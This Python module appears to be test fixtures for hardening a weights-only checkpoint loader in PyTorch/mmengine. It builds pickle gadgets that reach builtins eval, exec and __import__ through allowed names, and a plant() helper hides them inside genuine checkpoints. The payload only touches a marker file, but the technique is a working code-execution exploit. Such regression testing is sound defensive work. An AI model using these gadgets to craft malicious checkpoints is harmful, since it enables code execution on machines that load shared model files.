"""Pickle gadgets an attacker would build, each touching a marker file if it runs.

Every gadget uses only names that a weights-only loader with mmengine's needs allowed before
issue 24 (``getattr``, torch's ``_rebuild_from_type_v2``, ``HistoryBuffer``, numpy's
``_reconstruct``), so scanning a file's globals cannot tell it from a genuine checkpoint.
"""
from __future__ import annotations

import warnings
from collections import OrderedDict

import numpy as np
import torch
from mmengine.logging.history_buffer import HistoryBuffer


class Call:
    """Pickles as ``fn(*args)`` (with ``state``: then ``BUILD`` with it)."""

    def __init__(self, fn, *args, state=None):
        self.fn, self.args, self.state = fn, args, state

    def __reduce__(self):
        return (self.fn, self.args) if self.state is None else (self.fn, self.args, self.state)


def builtin(name: str) -> Call:
    """``getattr(getattr(getattr, '__self__'), name)``: the builtins module's ``name``."""
    return Call(getattr, Call(getattr, getattr, '__self__'), name)


def _code(marker) -> str:
    return (f"__import__('pathlib').Path({str(marker)!r}).touch() or "
            f"__import__('torch').zeros(1)")


def eval_through_rebuild(marker) -> Call:
    """torch's ``_rebuild_from_type_v2(func, type, args, state)`` calls ``func(*args)``: here
    ``eval`` of code that touches ``marker`` and returns a tensor, so the load even succeeds."""
    return Call(torch._tensor._rebuild_from_type_v2, builtin('eval'), torch.Tensor,
                (_code(marker),), {})


def exec_through_rebuild(marker) -> Call:
    return Call(torch._tensor._rebuild_from_type_v2, builtin('exec'), torch.Tensor,
                (_code(marker),), {})


def import_through_rebuild(marker) -> Call:
    return Call(torch._tensor._rebuild_from_type_v2, builtin('__import__'), torch.Tensor,
                ('os',), {})


def getattr_walk(marker) -> Call:
    """The walk alone, stored as a value: ``builtins.eval`` itself in the file's data."""
    return builtin('eval')


def history_buffer_call(marker) -> Call:
    """``REDUCE`` of an allowed class: its constructor runs with the file's arguments."""
    return Call(HistoryBuffer, [float('nan')], [1], 2 ** 62)


def history_buffer_methods(marker) -> HistoryBuffer:
    """A HistoryBuffer whose pickled statistics hold ``eval`` instead of ``HistoryBuffer.mean``."""
    buffer = HistoryBuffer([1.0], [1])
    buffer._statistics_methods = {'mean': builtin('eval')}
    return buffer


def history_buffer_renamed(marker) -> HistoryBuffer:
    """Statistics under names other than their own (``'evil': HistoryBuffer.min``)."""
    buffer = HistoryBuffer([1.0], [1])
    buffer._statistics_methods = {'evil': HistoryBuffer.min}
    return buffer


def array_of_other_class(marker) -> Call:
    """numpy's ``_reconstruct`` asked for a subclass other than ``ndarray``."""
    return Call(np._core.multiarray._reconstruct, HistoryBuffer, (0,), b'b')


def array_of_objects(marker) -> np.ndarray:
    """An object array: its items are unpickled, and called by whoever uses them."""
    return np.array([builtin('eval')], dtype=object)


def _typed_storage(t: torch.Tensor):
    """The storage as torch.save writes a tensor's (a typed record, e.g. ``torch.FloatStorage``)."""
    with warnings.catch_warnings():
        warnings.simplefilter('ignore', UserWarning)  # TypedStorage is deprecated
        return t.storage()


def tensor_with_hooks(marker) -> Call:
    """``_rebuild_tensor_v2`` with backward hooks, which torch would call on ``backward``."""
    t = torch.zeros(2)
    return Call(torch._utils._rebuild_tensor_v2, _typed_storage(t), 0, (2,), (1,), False,
                OrderedDict(hook=OrderedDict()))


def tensor_build(marker) -> Call:
    """``BUILD`` on a tensor: ``Tensor.__setstate__`` sets ``_backward_hooks``."""
    t = torch.zeros(2)
    return Call(torch._utils._rebuild_tensor_v2, _typed_storage(t), 0, (2,), (1,), False,
                OrderedDict(), state=(False, None, OrderedDict(hook=OrderedDict())))


GADGETS = dict(eval=eval_through_rebuild, exec=exec_through_rebuild,
               import_=import_through_rebuild, getattr_walk=getattr_walk,
               history_buffer_call=history_buffer_call,
               history_buffer_methods=history_buffer_methods,
               history_buffer_renamed=history_buffer_renamed,
               array_of_other_class=array_of_other_class, array_of_objects=array_of_objects,
               tensor_with_hooks=tensor_with_hooks, tensor_build=tensor_build)


def plant(checkpoint: dict, where: str, gadget) -> dict:
    """A genuine checkpoint with ``gadget`` nested in its ``meta``, ``message_hub`` (runtime
    info) or ``optimizer`` state."""
    ckpt = dict(checkpoint)
    if where == 'meta':
        ckpt['meta'] = dict(ckpt['meta'], note=gadget)
    elif where == 'message_hub':
        hub = dict(ckpt['message_hub'])
        hub['runtime_info'] = OrderedDict(hub['runtime_info'], extra=gadget)
        ckpt['message_hub'] = hub
    elif where == 'optimizer':
        optimizer = dict(ckpt['optimizer'])
        state = dict(optimizer['state'])
        first = next(iter(state))
        state[first] = dict(state[first], momentum_buffer=gadget)
        ckpt['optimizer'] = dict(optimizer, state=state)
    else:
        raise ValueError(where)
    return ckpt
